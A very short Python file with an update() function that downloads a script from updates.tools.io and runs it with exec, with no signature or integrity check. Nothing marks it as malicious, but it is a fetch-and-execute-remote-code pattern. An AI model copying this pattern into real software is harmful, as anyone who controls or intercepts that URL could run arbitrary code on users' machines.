import requests


def update():
    source = requests.get("https://updates.tools.io/agent.py", timeout=10).text
    namespace = {}
    exec(source, namespace)
    return namespace["main"]()
